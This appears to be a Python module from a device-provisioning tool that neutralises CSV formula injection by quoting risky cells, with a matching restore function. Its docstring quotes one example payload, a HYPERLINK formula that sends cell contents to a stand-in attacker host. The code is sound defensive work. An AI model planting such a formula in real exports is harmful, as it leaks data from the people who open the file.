"""CSV that a spreadsheet will not run: OWASP's rule against CSV (formula) injection.

A spreadsheet opening a CSV file takes a cell that starts with ``=``, ``+``, ``-`` or ``@``
for a formula (and a tab or carriage return in front of one for nothing), so a device named
``=HYPERLINK("https://evil.example/?"&A1,"open")`` would run on the desk of whoever opens an
export. Every CSV provisiond writes is made by :func:`csv_line` / :func:`csv_lines`: a cell
that starts with one of ``= + - @ TAB CR`` gets a single quote in front, which spreadsheets
show as text, and is written quoted (``"'=HYPERLINK(…)"``). Everything else is written as
the :mod:`csv` module writes it (quoted only when it holds a comma, a quote or a line break).

The rule has a price, the one OWASP names: a value that really starts with one of those
characters — a negative number, a phone number ``+44 …``, a serial ``-A1`` — is written with
the quote too. provisiond's readers of its own files (the import, ``labels --codes``, the
import's JSON answer) take it off again with :func:`restore`, so an export re-imports
unchanged; other programs see the quote. To make that exact, a cell that already starts with
quotes before such a character gets one more (``'=x`` is written ``''=x``), and
:func:`restore` removes exactly one.

What provisiond generates never starts with those characters, so never gets the quote: ids
(hex digits), credential types (words), access tokens (base64url of a version 7 UUID, whose
first character is ``A`` until the year 2109 and a letter or digit until the year 10,600),
claim codes (letters and digits, dashes only between groups) and LoRaWAN TR005 codes
(``LW:``). A secret in a credentials file is therefore exactly the secret the device gets.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence

FORMULA_STARTS = frozenset("=+-@\t\r")
_NEEDS_QUOTES = frozenset(',"\r\n')


def is_risky(cell: str) -> bool:
    """A spreadsheet could take ``cell`` (after any leading single quotes) for a formula."""
    return cell.lstrip("'")[:1] in FORMULA_STARTS


def neutralise(cell: str) -> str:
    """``cell`` as text a spreadsheet shows and does not run (a single quote in front)."""
    return "'" + cell if is_risky(cell) else cell


def restore(cell: str) -> str:
    """The value :func:`neutralise` was given (any other text unchanged)."""
    return cell[1:] if cell[:1] == "'" and is_risky(cell) else cell


def restore_row(cells: list[str]) -> list[str]:
    """:func:`restore` on every cell; the same list when no cell starts with a quote."""
    if "'" not in "".join(cells):
        return cells
    return [restore(c) for c in cells]


def _cell(value: str) -> str:
    if is_risky(value):
        return "\"'" + value.replace('"', '""') + '"'
    if _NEEDS_QUOTES.isdisjoint(value):
        return value
    return '"' + value.replace('"', '""') + '"'


def csv_line(cells: Sequence[str], end: str = "\r\n") -> str:
    """One CSV record (RFC 4180: CRLF; ``end`` "\\n" for files shell scripts read) of
    ``cells``, neutralised."""
    if len(cells) == 1 and not cells[0]:
        return '""' + end  # as the csv module writes it: a blank line would be no record
    return ",".join([_cell(c) for c in cells]) + end


def csv_lines(rows: Iterable[Sequence[str]], end: str = "\r\n") -> str:
    """The CSV records of ``rows``, neutralised, each ending with ``end``."""
    return "".join([csv_line(r, end) for r in rows])
